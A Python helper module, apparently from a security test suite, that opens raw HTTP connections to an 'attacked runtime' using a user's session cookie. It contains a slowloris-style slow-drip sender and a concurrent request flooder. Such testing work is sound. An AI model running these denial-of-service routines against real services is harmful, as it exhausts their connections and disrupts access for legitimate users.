"""Open raw HTTP connections for attacks: any bytes, at any pace."""

import asyncio
import contextlib
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass

ANSWER_LIMIT_S = 30.0


@dataclass(frozen=True, slots=True)
class Target:
    """Hold the address of the attacked runtime.

    cookie: session of a user with the right to call functions.
    large: id of a request with a large result. held: id of a request that does not end.
    """

    host: str
    port: int
    cookie: str
    large: str = ""
    held: str = ""

    def head(self, line: str, *more: str) -> bytes:
        fields = (line, f"Host: {self.host}:{self.port}", f"Cookie: {self.cookie}", *more)
        return "\r\n".join((*fields, "", "")).encode()

    def post(self, path: str, body: bytes, *more: str) -> bytes:
        kind = () if any(field.startswith("Content-Type") for field in more) else ("Content-Type: application/json",)
        return self.head(f"POST {path} HTTP/1.1", f"Content-Length: {len(body)}", *kind, *more) + body


@contextlib.asynccontextmanager
async def connection(target: Target) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Open a connection, and abort it at the end of the block."""
    reader, writer = await asyncio.open_connection(target.host, target.port, limit=4096)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def send(target: Target, data: bytes) -> int:
    """Send one request and return the status of the response; 0 if the server closes the connection."""
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(ANSWER_LIMIT_S), connection(target) as (reader, writer):
            sending = asyncio.ensure_future(_feed(writer, data))
            try:
                line = await reader.readline()
                while await reader.read(65_536):
                    pass
                return int(line.split(b" ", 2)[1]) if line.startswith(b"HTTP/1.1 ") else 0
            finally:
                sending.cancel()
    return 0


async def _feed(writer: asyncio.StreamWriter, data: bytes) -> None:
    with contextlib.suppress(OSError):
        for start in range(0, len(data), 262_144):
            writer.write(data[start : start + 262_144])
            await writer.drain()


async def drip(target: Target, head: bytes, piece: bytes, every_s: float) -> None:
    """Send a head, then one piece repeatedly, until the server closes the connection."""
    with contextlib.suppress(OSError):
        async with connection(target) as (_, writer):
            writer.write(head)
            while not writer.transport.is_closing():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(every_s)


async def crowd(count: int, seconds: float, client: Callable[[int], Awaitable[object]]) -> None:
    """Run `count` clients for some seconds; each starts again when it ends."""
    ends_at = time.monotonic() + seconds

    async def again(number: int) -> None:
        while time.monotonic() < ends_at:
            await client(number)
            await asyncio.sleep(0.01)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*(again(number) for number in range(count)), return_exceptions=True)
